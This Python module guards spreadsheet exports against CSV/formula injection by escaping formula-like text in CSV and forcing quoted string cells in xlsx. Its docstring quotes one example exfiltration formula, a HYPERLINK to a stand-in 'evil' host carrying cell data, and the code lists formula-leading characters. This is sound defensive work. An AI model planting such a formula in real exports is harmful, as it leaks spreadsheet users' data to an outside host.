"""Spreadsheet exports that cannot carry a formula (CSV/formula injection, OWASP "CSV Injection").

A registry name such as `=HYPERLINK("http://evil/?"&A1,"点击")` typed by a unit must reach a supervisor's
spreadsheet as the text it is, never as a live formula. Every writer of user-controlled text into .xlsx or
.csv goes through here:

* .csv has no cell types, so a text that a spreadsheet would read as a formula gets a leading `'`
  (the OWASP advice; `restore` takes it off again on import, so an export can be edited and re-imported).
* .xlsx cells are typed: a text is written as a string cell (openpyxl makes any str that starts with "="
  a formula cell and "#N/A"-like texts error cells, so the type is forced) with the "quote prefix" style,
  so the spreadsheet shows the literal text and keeps it text when the cell is edited. The value itself is
  unchanged, so an exported workbook imports back as it was.

Formula leads: `= + - @`, tab and CR (OWASP), and their full-width forms `＝ ＋ － ＠`: Excel and WPS with a
Chinese input method turn a leading full-width sign into the half-width one when a cell is re-entered, and
some importers apply NFKC; no real name of a site, unit or account starts with one, so the cost is nil.
Numbers stay numbers: only `str` values are touched, and a text that is just a number ("-12.5") or a
placeholder of dashes ("-", "--") is left alone — a spreadsheet reads those as a number or text, never
as a formula.
"""
import csv
import io
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell

FORMULA_LEADS = frozenset("=+-@\t\r＝＋－＠")
_HARMLESS = re.compile(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?|-+")
# Texts openpyxl would store as an error cell (t="e") rather than a string.
_ERROR_TEXTS = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))


def is_formula_like(value: Any) -> bool:
    """True for a text a spreadsheet could evaluate (or re-evaluate once edited)."""
    return (isinstance(value, str) and value != "" and value[0] in FORMULA_LEADS
            and _HARMLESS.fullmatch(value) is None)


def _escaped(value: str) -> bool:
    """An apostrophe before formula-like text (or before such an escape): what `csv_value` writes."""
    return value[:1] == "'" and is_formula_like(value.lstrip("'"))


def csv_value(value: Any) -> Any:
    """A CSV field: formula-like text gets a leading apostrophe (and so does text that already looks
    escaped, so that `restore` gives it back unchanged); anything else unchanged."""
    return "'" + value if is_formula_like(value) or (isinstance(value, str) and _escaped(value)) else value


def restore(value: str) -> str:
    """The inverse of `csv_value` for an imported cell: one apostrophe before an escape goes."""
    return value[1:] if _escaped(value) else value


def xlsx_cell(ws: Any, value: Any) -> Cell:
    """A cell (for a write-only or a normal sheet) that shows `value` and is never a formula."""
    cell = Cell(ws, row=1, column=1, value=value)  # row/column are set again by append()
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value) or value in _ERROR_TEXTS:
            cell.quotePrefix = True
    return cell


def _needs_cell(value: Any) -> bool:
    return isinstance(value, str) and (is_formula_like(value) or value in _ERROR_TEXTS)


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append`: plain values when none is risky (the fast path of large exports),
    else a typed cell for every value (write-only sheets reuse the last appended cell for the plain
    values after it, so a mixed row would pass the quote-prefix style on)."""
    row = list(values)
    if not any(_needs_cell(v) for v in row):
        return row
    return [xlsx_cell(ws, v) for v in row]


def write_xlsx(title: str, headers: list[str], rows: Iterable[list[Any]]) -> bytes:
    """A one-sheet workbook (write-only: constant memory for large exports)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.append(xlsx_row(sheet, headers))
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def write_csv(headers: list[str], rows: Iterable[list[Any]]) -> bytes:
    """UTF-8 with a BOM, so Excel opens it as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_value(v) for v in headers])
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    return out.getvalue().encode("utf-8-sig")
